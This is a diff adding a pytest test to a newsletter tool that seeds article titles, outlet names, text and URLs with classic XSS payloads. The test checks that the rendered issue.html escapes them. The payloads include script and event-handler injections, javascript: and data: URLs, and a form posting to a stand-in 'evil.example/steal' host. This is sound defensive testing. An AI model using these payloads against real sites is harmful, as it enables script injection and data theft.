@@ -1,0 +1,132 @@
+"""Untrusted text through the whole pipeline: the classic XSS vectors, in titles, article
+text, URLs and outlet names, must not survive into issue.html as markup.
+
+Each way hostile text can enter is a "source variant" that writes the same vectors into a
+project; today that is seed files with front matter. A feed variant (a local RSS file with
+the vectors in <title>, <description>, <link> and the channel title) plugs in as one more
+function in SOURCE_VARIANTS.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+
+from emailkit import build_issue, inspect, new_project
+
+VECTORS = (
+    "<script>alert('t1')</script>",
+    "<img src=x onerror=\"alert('t2')\">",
+    "<svg onload=alert('t3')>",
+    "<iframe src=\"javascript:alert('t4')\"></iframe>",
+    "<a href=\"javascript:alert('t5')\">click</a>",
+    "<style>body{background:url(javascript:alert('t6'))}</style>",
+    '<form action="https://evil.example/steal"><input name=p></form>',
+    '"><script>alert("t7")</script>',
+    "' onmouseover='alert(8)' x='",
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">d</a>',
+    "<object data=javascript:alert(10)></object><embed src=javascript:alert(11)>",
+    "<body onload=alert(12)><meta http-equiv=refresh content='0;url=javascript:alert(13)'>",
+    "--><!--<script>alert(14)</script>",
+    "<![CDATA[<script>alert(15)</script>]]>",
+)
+HOSTILE_URLS = (
+    "https://wire.example/a\"><script>alert('u1')</script>",
+    "https://wire.example/b' onmouseover='alert(2)",
+    "javascript:alert('u3')",
+    "data:text/html,<script>alert('u4')</script>",
+    "https://wire.example/ok?x=<svg/onload=alert(5)>",
+    "https://wire.example/story?id=6&utm=x#top",  # harmless: must stay a working link
+)
+# Sentences the summarizer will pick (they carry the sections' keywords), each with a vector.
+# A distinct word per vector keeps the summarizer from merging them as one sentence.
+SENTENCES = (
+    "The Kremlin told {w} that Russia demands Kyiv withdraw from four provinces {v} before talks.",
+    "Ukraine's President Zelenskiy told {w} and European allies in Kyiv {v} that unity matters.",
+    "The U.S. plan, {w} learned, has Ukraine give up territory and weapons {v} for guarantees.",
+)
+WORDS = (
+    "alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf",
+    "hotel", "india", "juliett", "kilo", "lima", "mike", "november",
+)  # fmt: skip
+
+SourceVariant = Callable[[Path], None]
+
+
+def seed_variant(project: Path) -> None:
+    """Hostile seed files with front matter: title, outlet, url and text."""
+    seeds = project / "seeds"
+    # Seeds refuse a URL that is not http(s) (the whole seed is skipped with a warning), so
+    # the vectors ride on the http(s) URLs and the others get seeds of their own.
+    usable = [u for u in HOSTILE_URLS if u.startswith("http")]
+    for n, url in enumerate(u for u in HOSTILE_URLS if u not in usable):
+        (seeds / f"bad-url-{n}.md").write_text(
+            f'+++\ntitle = "Kremlin note"\nurl = {_toml(url)}\n+++\n'
+            "The Kremlin said Russia demands Kyiv withdraw from four provinces now.\n",
+            encoding="utf-8",
+        )
+    for n, vector in enumerate(VECTORS):
+        url = usable[n % len(usable)]
+        title = f"Kremlin terms {vector} in Kyiv talks"
+        outlet = f"Wire {vector}"
+        text = " ".join(s.format(v=vector, w=WORDS[n].title()) for s in SENTENCES)
+        front = f"title = {_toml(title)}\noutlet = {_toml(outlet)}\nurl = {_toml(url)}\n"
+        (seeds / f"hostile-{n:02}.md").write_text(f"+++\n{front}+++\n{text}\n", encoding="utf-8")
+
+
+def _toml(value: str) -> str:
+    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+SOURCE_VARIANTS: dict[str, SourceVariant] = {"seeds": seed_variant}
+
+FORBIDDEN_TAGS = {
+    "script", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea",
+    "select", "svg", "math", "base", "applet", "audio", "video", "img",
+}  # fmt: skip
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "srcset", "data"}
+
+
+@pytest.mark.parametrize("variant", sorted(SOURCE_VARIANTS))
+def test_no_xss_vector_survives_into_issue_html(tmp_path: Path, variant: str) -> None:
+    project = new_project(tmp_path / "project")
+    config = project / "newsletter.toml"
+    roomy = "[[sections]]\nmax_items = 50\nmax_words = 2000"
+    config.write_text(config.read_text().replace("[[sections]]", roomy), encoding="utf-8")
+    SOURCE_VARIANTS[variant](project)
+    folder = build_issue(project)
+    html = (folder / "issue.html").read_text(encoding="utf-8")
+    page = inspect(html)
+
+    # The hostile articles did reach the email, as text a reader can see.
+    visible = " ".join(page.texts)
+    for vector in VECTORS:
+        assert f"Wire {vector}" in visible, vector  # each outlet name, as plain text
+    assert "four provinces <script>alert('t1')</script> before talks" in visible
+    assert "weapons <svg onload=alert('t3')> for guarantees" in visible
+
+    for element in page.elements:
+        assert element.tag not in FORBIDDEN_TAGS, element
+        if element.tag == "style":
+            assert element.ancestors == ("html", "head"), "a <style> outside <head>"
+        if element.tag == "meta":
+            assert (element.attrs.get("http-equiv") or "").lower() != "refresh", element
+        for name, value in element.attrs.items():
+            assert not name.startswith("on"), element
+            assert name not in ("formaction", "srcdoc"), element
+            if name in URL_ATTRIBUTES and value is not None:
+                assert urlsplit(value.strip()).scheme in ("http", "https", "mailto"), element
+            if name == "style" and value:
+                assert "javascript:" not in value and "url(" not in value, element
+        if element.tag == "a" and urlsplit(element.attrs.get("href") or "").scheme != "mailto":
+            assert "noopener" in (element.attrs.get("rel") or "").split(), element
+            assert "<" not in (element.attrs.get("href") or ""), element
+
+    for code in page.code + page.comments:  # style blocks and MSO conditional comments
+        assert "alert" not in code and "javascript" not in code, code
+    hrefs = [e.attrs.get("href") or "" for e in page.elements if e.tag == "a"]
+    assert all("alert" not in h and "script" not in h for h in hrefs), hrefs
+    assert "https://wire.example/story?id=6&utm=x#top" in hrefs  # a good link still works
